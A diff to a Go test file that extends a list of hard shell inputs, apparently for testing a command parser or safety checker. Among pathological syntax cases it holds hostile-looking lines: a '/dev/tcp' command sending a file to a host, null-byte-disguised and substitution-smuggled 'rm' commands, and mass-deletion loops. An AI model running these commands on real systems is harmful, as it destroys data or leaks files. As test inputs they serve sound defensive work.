@@ -84,7 +84,7 @@ var hardLines = []string{
 	strings.Repeat("(", 300), strings.Repeat("$(", 300), strings.Repeat("if ", 300), strings.Repeat("!", 9000), strings.Repeat("a|", 5000) + "a", strings.Repeat("a&&", 5000) + "a",
 	"a() { a; a; }; a", "a() { b; b; }; b() { c; c; }; c() { a; a; }; a", "eval 'eval \"eval a\"'", "alias a=a; a", "alias a='b c' b='a d'; a", "x=a; " + strings.Repeat("x=$x$x$x$x;", 40),
 	"x=$(a); " + strings.Repeat("x=$x$x;", 60), "x=$(a); " + strings.Repeat("x+=$x;", 60), "a=($(a)); " + strings.Repeat("a+=(\"${a[@]}\");", 40), "{ " + strings.Repeat("a;", 900) + "} | { " + strings.Repeat("b;", 900) + "}",
-	"\x00rm", "r\x00m x", "\uFFFCrm $'\\0' x", "for f in {1..100000}; do rm $f; done", "cat < /dev/tcp/a/b > /dev/udp/c/d", "find . -exec find . -exec rm {} \\; \\;", "xargs xargs xargs rm", "sed s", "sed 's/a", "awk '/", "tar x", "trap 'trap x EXIT' EXIT",
+	"\x00rm", "r\x00m x", "\uFFFCrm $'\\0' x", "for f in {1..100000}; do rm $f; done", "cat < /dev/tcp/a/b > /dev/udp/c/d", "find . -exec find . -exec rm {} \\; \\;", "xargs xargs xargs rm", "find -", "find /dev/null -delete", "git checkout -- -", "git restore /dev/null", "git diff -- /dev/null ./-", "git clone ../a -", "git clone ../a /dev/null", "gh repo clone a/b -", "git clone https://x.example/a -", "docker run -v /dev/null:/x a", "docker run --mount type=bind,src=/dev/null a", "patch -", "bash -", "sed s", "sed 's/a", "awk '/", "tar x", "trap 'trap x EXIT' EXIT",
 	"${x@P}", "x='$(rm a)'; echo ${x@P}", "coproc x { a; }", "select x in a b; do c; done", "case x in (a) b;; c|d) e;& *) f;; esac", "function f { g; }; f", "a=(b c); ${a[@]} x", "[[ -f a && ! -d b ]]", "((x = $(rm a)))", "let x=1", "time -p rm a", "! rm a", "rm a &", "exec 3<>/dev/tcp/h/1; cat k >&3",
 }
 
